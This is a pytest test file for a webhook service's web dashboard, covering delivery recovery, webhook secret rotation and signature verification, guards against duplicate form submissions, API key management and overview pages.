    assert "Deliveries are switched off: turn them on on the Webhook page first." in page and "PUT /" not in page


@pytest.mark.parametrize("since", ["2000-01-01T00:00", "946684800"])  # the README's ISO 8601 or Unix seconds
def test_recover_a_window(browser, alice, since):
    configure(alice, "http://127.0.0.1:9/hook")
    alice.put("/webhooks/configure", json={"is_active": False})
    record_events(alice.account_id, count=2)
    alice.put("/webhooks/configure", json={"is_active": True})
    response = browser.post("/deliveries/recover", data={"since": since})
    assert response.status_code == 302
    # a start before the last 14 days is cut to them, and the answer says so (it did not: dashboard walk)
    assert "2 events queued for delivery (from 14 days ago: no further back)." in browser.text("/deliveries")
    browser.post("/deliveries/recover", data={"since": (utcnow() - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")})
    recent = browser.text("/deliveries")
    assert "events queued for delivery." in recent and "no further back" not in recent


def test_a_recovery_comes_back_to_the_deliveries_view_it_was_sent_from(browser, alice):
    """It came back to page 1 of every delivery attempt, the filter and page lost (browser walk)."""
    configure(alice, "http://127.0.0.1:9/hook")
    view = "/deliveries?status=failed&page=3"
    shown = _list_query_of(browser.text(view), "/deliveries/recover")
    since = (utcnow() - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")
    response = browser.post("/deliveries/recover", data={"since": since, "list_query": shown})
    assert response.status_code == 302 and response.headers["Location"] == f"{view}#recover"
    assert "0 events queued for delivery." in browser.text(view)


def test_a_refused_recovery_window_comes_back_filled_in_with_why_beside_the_form(browser, alice):
    """The refused form came back empty, its error on top of the page, above a page of deliveries (walk)."""
    configure(alice, "http://127.0.0.1:9/hook")
    since, until = ((utcnow() - timedelta(days=days)).strftime("%Y-%m-%dT%H:%M") for days in (1, 2))  # until first
    response = browser.post("/deliveries/recover", data={"since": since, "until": until, "include_pending": "on"})
    assert response.status_code == 302 and response.headers["Location"].endswith("/deliveries#recover")
    above, form = browser.text("/deliveries").split('id="recover"')
    assert "must be after since" in form and "must be after since" not in above
    assert re.search(r'name="since" [^>]*value="([^"]*)"', form).group(1) == since
    assert re.search(r'name="until" [^>]*value="([^"]*)"', form).group(1) == until
    assert re.search(r'name="include_pending"\s+checked', form)
    above, form = browser.text("/deliveries").split('id="recover"')  # shown once; the form empty again
    assert "must be after since" not in form and re.search(r'name="since" [^>]*value=""', form)


# --- webhook settings and keys -------------------------------------------------------------------------

def test_configure_shows_the_secret_once_then_test_and_rotate(browser, alice):
    with Receiver() as receiver:
        page = browser.post("/webhook", data={"endpoint_url": receiver.url, "events": ["contact.*"],
                                              "initial_webhook": "none"}).get_data(as_text=True)
        secret = alice.get("/webhooks/configure").json  # the API never shows it again either
        assert "shown only this once" in page and "whsec_" in page and "secret" not in secret
        assert secret["events"] == ["contact.*"] and secret["initial_webhook"] == "none"
        assert "whsec_" not in browser.text("/webhook")
        result = browser.post("/webhook/test").get_data(as_text=True)
        assert "Delivered: your endpoint answered 200" in result
        rotated = browser.post("/webhook/rotate").get_data(as_text=True)
        new_secret = rotated.split('id="secret">')[1].split("<")[0]
        assert new_secret.startswith("whsec_") and new_secret not in page
        assert "hmac.compare_digest" in rotated


def test_the_verification_snippet_works_as_copied_through_a_rotation_and_refuses_replays(browser, alice):
    """The snippet took any old timestamp (a replay passed), raised KeyError on a request without the headers, and
    checked only X-Webhook-Signature, so a receiver still on the old secret refused every delivery of the 24-hour
    overlap the page promises (CRM walk)."""
    old = configure(alice, "http://127.0.0.1:9/hook")["secret"]
    page = browser.post("/webhook/rotate").get_data(as_text=True)
    new = page.split('id="secret">')[1].split("<")[0]
    namespace = {}
    exec(html.unescape(page.split('<pre class="wrap">')[1].split("</pre>")[0]), namespace)
    verified, body = namespace["verified"], b'{"id":"evt_1"}'

    def headers(timestamp_ms):
        return {"X-Webhook-Timestamp": str(timestamp_ms), "X-Webhook-Signature": sign(new, timestamp_ms, body),
                "X-Webhook-Signature-Previous": sign(old, timestamp_ms, body)}
    now_ms = int(time.time() * 1000)
    assert verified(new, headers(now_ms), body) and verified(old, headers(now_ms), body)
    assert not verified(new, headers(now_ms), body + b" ")
    assert not verified(new, headers(now_ms - 301_000), body)
    assert not verified(new, {}, body)
    # a hostile request is refused, not an exception: a signature beyond ASCII (compare_digest raises TypeError on
    # such text) and a timestamp of more digits than int() takes (ValueError), as scripts/receiver.py refuses them
    assert not verified(new, {**headers(now_ms), "X-Webhook-Signature": "é", "X-Webhook-Signature-Previous": "é"}, body)
    assert not verified(new, {**headers(now_ms), "X-Webhook-Timestamp": "1" * 5000}, body)


def test_a_rotate_form_sent_again_does_not_rotate_a_second_time(browser, alice):
    """A reload of the new secret's page posted the form again: a second rotation, so the secret receivers still
    held lost its 24-hour overlap at once and every delivery failed their check (browser walk: 401s)."""
    configure(alice, "http://127.0.0.1:9/hook")
    form = browser.text("/webhook")
    shown = re.search(r'name="rotated_at" value="([^"]*)"', form).group(1)
    first = browser.post("/webhook/rotate", data={"rotated_at": shown})
    assert first.status_code == 200 and 'id="secret">whsec_' in first.get_data(as_text=True)
    config = webhooks.get_or_none(alice.account_id)
    secret, previous = config.secret, config.previous_secret
    again = browser.post("/webhook/rotate", data={"rotated_at": shown})  # the reload
    assert again.status_code == 302 and "rotated since this form was shown" in browser.text("/webhook")
    db.session.rollback()
    config = webhooks.get_or_none(alice.account_id)
    assert (config.secret, config.previous_secret) == (secret, previous)
    fresh = re.search(r'name="rotated_at" value="([^"]*)"', browser.text("/webhook")).group(1)
    assert fresh and fresh != shown
    assert 'id="secret">whsec_' in browser.post("/webhook/rotate", data={"rotated_at": fresh}).get_data(as_text=True)


def test_a_send_test_form_sent_again_sends_no_second_test(browser, alice):
    """A reload of the page Send test shows posted the form again: a second test event sent (browser walk). The page
    it shows carries a fresh form, whose Send test sends another."""
    with Receiver() as receiver:
        configure(alice, receiver.url)
        shown = _newest_test_of(browser.text("/webhook"))
        first = browser.post("/webhook/test", data={"newest_test": shown}).get_data(as_text=True)
        assert "Delivered: your endpoint answered 200" in first and len(receiver.event_ids) == 1
        again = browser.post("/webhook/test", data={"newest_test": shown})  # the reload
        assert len(receiver.event_ids) == 1 and "1 event." in browser.text("/events?type=test")
        assert again.status_code == 302 and "A test event was sent since this form was shown" in browser.text(
            "/webhook")
        fresh = _newest_test_of(first)
        assert fresh == receiver.event_ids[0]
        assert "Delivered" in browser.post("/webhook/test", data={"newest_test": fresh}).get_data(as_text=True)
        assert len(receiver.event_ids) == 2


def _newest_test_of(page: str) -> str:
    shown = re.search(r'name="newest_test" value="([^"]*)"', page)
    return shown.group(1) if shown else ""


def test_the_first_setup_form_sent_again_keeps_deliveries_on(browser, alice):
    """The first setup's form has no "Deliveries on" box; sent again (a reload of the secret's page, or a second tab
    opened before the setup) it reached an existing configuration as a save with the box unticked: "Webhook settings
    saved." and deliveries silently switched off (browser walk)."""
    page = browser.text("/webhook")
    hidden = dict(re.findall(r'<input type="hidden" name="(?!csrf_token)([^"]+)" value="([^"]*)"', page))
    data = {**hidden, "endpoint_url": "http://127.0.0.1:9/hook", "events": ["*"], "initial_webhook": "latest"}
    assert browser.post("/webhook", data=data).status_code == 201
    assert browser.post("/webhook", data=data).status_code == 302  # the reload
    assert alice.get("/webhooks/configure").json["is_active"] is True


def test_a_bad_endpoint_is_refused_and_nothing_saved(browser, alice):
    page = browser.post("/webhook", data={"endpoint_url": "ftp://example.com/x"}).get_data(as_text=True)
    assert "endpoint_url" in page and "whsec_" not in page
    assert alice.get("/webhooks/configure").status_code == 404


def test_clearing_every_event_box_is_refused_not_read_as_every_event(browser, alice):
    """It saved `*`: who cleared the boxes to send less was sent everything (walk)."""
    configure(alice, "http://127.0.0.1:9/hook", events_filter=("contact.*",))
    response = browser.post("/webhook", data={"endpoint_url": "http://127.0.0.1:9/hook", "initial_webhook": "latest",
                                              "is_active": "on"})
    assert response.status_code == 400 and "Choose the events to send" in response.get_data(as_text=True)
    assert alice.get("/webhooks/configure").json["events"] == ["contact.*"]


def test_deliveries_switched_off_save_with_every_event_box_cleared(browser, alice):
    """The form's own advice ("to send none, turn deliveries off") was refused, and its error page ticked
    "Deliveries on" again (review)."""
    configure(alice, "http://127.0.0.1:9/hook", events_filter=("contact.*",))
    response = browser.post("/webhook", data={"endpoint_url": "http://127.0.0.1:9/hook", "initial_webhook": "latest"})
    assert response.status_code == 302
    assert alice.get("/webhooks/configure").json["is_active"] is False
    assert alice.get("/webhooks/configure").json["events"] == ["contact.*"]
    refused = browser.post("/webhook", data={"endpoint_url": "ftp://x", "events": ["*"], "initial_webhook": "latest"})
    assert refused.status_code == 400 and 'name="is_active" checked' not in refused.get_data(as_text=True)


def test_a_webhook_set_by_the_api_to_test_events_only_shows_that_box_ticked(browser, alice):
    """No box was ticked (the form lists no `test` box), so saving the form as shown was refused (walk)."""
    configure(alice, "http://127.0.0.1:9/hook", events_filter=("test",))
    page = browser.text("/webhook")
    assert 'name="events" value="test" checked' in page
    saved = browser.post("/webhook", data={"endpoint_url": "http://127.0.0.1:9/hook", "events": ["test"],
                                           "initial_webhook": "latest", "is_active": "on"})  # the form as shown
    assert saved.status_code == 302 and alice.get("/webhooks/configure").json["events"] == ["test"]
    configure(alice, "http://127.0.0.1:9/hook", events_filter=("contact.*",))
    assert 'value="test"' not in browser.text("/webhook")  # otherwise not offered: the test send is its own button


def test_recovering_without_a_webhook_says_to_set_one_up(browser, alice):
    """It was a 404 page telling to `POST /webhooks/configure` (walk)."""
    response = browser.post("/deliveries/recover", data={"since": "2026-11-01T00:00"})
    assert response.status_code == 302
    assert "Set up your webhook first" in browser.text("/deliveries")


def test_signing_in_without_a_key_asks_for_one(app):
    """It told to send an `X-API-Key header` (walk)."""
    response = sign_in(app.test_client(), " ")
    assert "Paste an API key to sign in." in response.get_data(as_text=True)


def test_metadata_naming_a_key_twice_is_refused_and_changes_nothing(browser, alice):
    subscription = subscribe(alice.account_id)
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": '{"o": "a", "o": "b"}'})
    assert "names &#39;o&#39; more than once" in browser.text(f"/subscriptions/{subscription.id}")
    assert alice.get(f"/subscriptions/{subscription.id}").json["custom_metadata"] == {}


def test_switching_deliveries_off_and_on(browser, alice):
    configure(alice, "http://127.0.0.1:9/hook")
    browser.post("/webhook", data={"endpoint_url": "http://127.0.0.1:9/hook", "events": ["*"],
                                   "initial_webhook": "latest"})
    assert alice.get("/webhooks/configure").json["is_active"] is False
    browser.post("/webhook", data={"endpoint_url": "http://127.0.0.1:9/hook", "events": ["*"],
                                   "initial_webhook": "latest", "is_active": "on"})
    assert alice.get("/webhooks/configure").json["is_active"] is True


@pytest.mark.parametrize("form", ["/webhook/test", "/webhook/rotate"])
def test_a_webhook_form_after_its_configuration_was_deleted_says_so_in_the_forms_words(browser, alice, form):
    """A page opened before `DELETE /webhooks/configure` answered Send test or Rotate with the API's
    "POST /webhooks/configure first" (dashboard walk)."""
    configure(alice, "http://127.0.0.1:9/hook")
    assert alice.delete("/webhooks/configure").status_code in (200, 204)
    page = browser.post(form).get_data(as_text=True)
    assert views.NO_WEBHOOK_YET.split(":")[0] in page and "/webhooks/configure" not in page


def test_an_id_with_letters_beyond_ascii_is_shown_as_written(browser, alice):
    """`renée-o-connor` is stored percent-encoded; the pages showed `ren%c3%a9e-o-connor` (dashboard walk)."""
    subscription = subscribe(alice.account_id, "renée-o-connor")
    record_events(alice.account_id, subscription=subscription)
    for path in (f"/subscriptions/{subscription.id}", "/subscriptions", "/events"):
        page = browser.text(path)
        assert "renée-o-connor" in page and "ren%c3%a9e" not in page.replace(subscription.network_url, ""), path


def test_revoking_a_key_revoked_meanwhile_says_why_and_leads_back_to_the_keys(browser, alice, bob):
    """It was a dead end: "No api_key with id 'key_…' was found." (dashboard walk). Another account's key id gets the
    same page, and its key stays."""
    key, _plaintext = keys.create_key(alice.account_id, "Old sync")
    keys.delete_key(alice.account_id, key.id)
    theirs, _plaintext = keys.create_key(bob.account_id, "Theirs")
    for key_id in (key.id, theirs.id):
        response = browser.post(f"/keys/{key_id}/revoke")
        page = response.get_data(as_text=True)
        assert response.status_code == 404 and "it was revoked already" in page
        assert 'href="/keys">Back to the API keys' in page and key_id not in page
    assert theirs.id in {listed.id for listed in keys.list_keys(bob.account_id)}


def test_the_create_key_form_sent_again_creates_no_second_key(browser, alice):
    """A reload of the new key's page re-posted its form: a second live key of the same name (dashboard walk)."""
    form = browser.text("/keys").split('name="newest_key" value="')[1].split('"')[0]
    first = browser.post("/keys", data={"name": "CRM sync", "newest_key": form})
    assert first.status_code == 201
    again = browser.post("/keys", data={"name": "CRM sync", "newest_key": form})
    assert again.status_code == 409 and "no other was created" in again.get_data(as_text=True)
    assert 'value="CRM sync"' in again.get_data(as_text=True)  # the name typed, kept
    assert [key.name for key in keys.list_keys(alice.account_id)].count("CRM sync") == 1


def test_a_key_made_meanwhile_in_another_tab_does_not_refuse_the_next(browser, alice):
    """The reload guard refused a key of another name because someone had made one since the form was shown, and
    emptied the name typed (dashboard walk)."""
    form = browser.text("/keys").split('name="newest_key" value="')[1].split('"')[0]
    keys.create_key(alice.account_id, "Made in another tab")
    made = browser.post("/keys", data={"name": "Zapier integration for sales", "newest_key": form})
    assert made.status_code == 201
    keys.create_key(alice.account_id, "A teammate's")  # then the page of the new key is reloaded: no second one
    again = browser.post("/keys", data={"name": "Zapier integration for sales", "newest_key": form})
    assert again.status_code == 409 and [key.name for key in keys.list_keys(alice.account_id)].count(
        "Zapier integration for sales") == 1  # (review: only the newest key was compared)
    assert {"Made in another tab", "Zapier integration for sales"} <= {key.name for key in keys.list_keys(
        alice.account_id)}


def test_keys_are_created_shown_once_listed_and_revoked(browser, alice):
    page = browser.post("/keys", data={"name": "CRM sync"}).get_data(as_text=True)
    plaintext = page.split('id="new-key">')[1].split("<")[0]
    assert keys.KEY_PATTERN.match(plaintext)
    listing = browser.text("/keys")
    assert "<td>CRM sync</td>" in listing and plaintext not in listing and plaintext[-4:] in listing
    new_key = next(key for key in keys.list_keys(alice.account_id) if key.name == "CRM sync")
    browser.post(f"/keys/{new_key.id}/revoke")
    assert "<td>CRM sync</td>" not in browser.text("/keys")
    for name, message in (("", "name: Length must be between 1 and 100."),
                          ("CRM\r\nsync", "name must not be blank (spaces and invisible characters alone) or "
                           "contain control characters")):
        refused = browser.post("/keys", data={"name": name})
        assert refused.status_code == 400 and message in refused.get_data(as_text=True)
    assert len(keys.list_keys(alice.account_id)) == 1


# --- overview --------------------------------------------------------------------------------------------

def test_the_overview_of_a_populated_account(browser, alice, ticking):
    for index in range(3):
        subscribe(alice.account_id, f"p{index}")
    with Receiver() as receiver:
        configure(alice, receiver.url)
        browser.post("/webhook/test")
    record_events(alice.account_id, count=1200)
    page = browser.text("/")
    assert "Get started" not in page
    assert "4 active" in page  # record_events subscribed one more
    assert "1,201" in page  # events in the chart's summary, with a thousands separator
    assert "<svg" in page and "contact.position_changed" in page
    assert "100.0%" in page and "Healthy." in page and "Last heartbeat" in page and "Trial" in page


def test_an_ended_trial_is_shown_as_ended_with_what_it_stops(browser, alice):
    """It said "Trial: ends" and the past date, while every form adding a subscription was refused (walk)."""
    assert "Trial: ends" in browser.text("/")
    with write_transaction() as session:
        session.get(Account, alice.account_id).trial_ends_at = utcnow() - timedelta(days=1)
    page = browser.text("/")
    assert "Trial: ends" not in page
    assert "Trial: <strong>ended</strong>" in page and "new subscriptions are refused" in page
    assert "ask your operator to choose a tier" in page


def test_a_switched_off_endpoint_is_shown_with_why(browser, alice):
    configure(alice, "http://127.0.0.1:9/hook")
    with write_transaction() as session:
        config = webhooks.get(alice.account_id, session)
        config.is_active, config.failing_since = False, utcnow()
    overview = browser.text("/")
    assert "Deactivated: deliveries are paused after failing since" in overview
    assert "Deliveries are switched off: the endpoint kept failing" in browser.text("/webhook")


def test_the_dashboards_and_the_apis_subscription_ids_each_step_around_their_own_siblings(browser, alice):
    assert browser.client.get("/subscriptions/export").status_code == 404  # the dashboard has no export page
    assert "No subscription with id" in browser.client.get("/subscriptions/export").get_data(as_text=True)
    response = alice.get("/subscriptions/import")  # the API has no import route: an id like any other
    assert response.status_code == 404 and response.json["details"]["resource"] == "subscription"


@pytest.mark.parametrize("error, status, says", [
    ("database is locked", 503, "The service cannot use its database right now. Retry later."),
    ("near \"SELEC\": syntax error", 500, "An unexpected error occurred. Quote the request id to support."),
])
def test_an_unexpected_error_is_a_page_not_the_apis_json(browser, monkeypatch, error, status, says):
    """A dashboard page whose database was too busy (or that met a bug) answered the API's JSON (dashboard walk)."""
    import sqlite3
    from app.dashboard import views

    def failing(_account):
        raise sqlite3.OperationalError(error)
    monkeypatch.setattr(views.overview, "summary", failing)
    page = browser.get("/")
    assert page.status_code == status and page.mimetype == "text/html"
    assert says in page.get_data(as_text=True) and page.headers["Cache-Control"] == "no-store"
    assert (page.headers.get("Retry-After") == "5") == (status == 503)


def test_pages_name_an_icon_the_server_serves_and_the_search_box_takes_what_search_takes(browser):
    """Every page's load asked for /favicon.ico, a JSON 404 and a console error; a search past 200 characters was
    refused and the box emptied (dashboard walk)."""
    page = browser.text("/subscriptions")
    icon = page.split('<link rel="icon" href="')[1].split('"')[0]
    served = browser.get(icon)
    assert served.status_code == 200 and served.mimetype == "image/svg+xml"
    assert 'name="search"' in page and 'maxlength="200"' in page.split('name="search"')[1].split(">")[0]
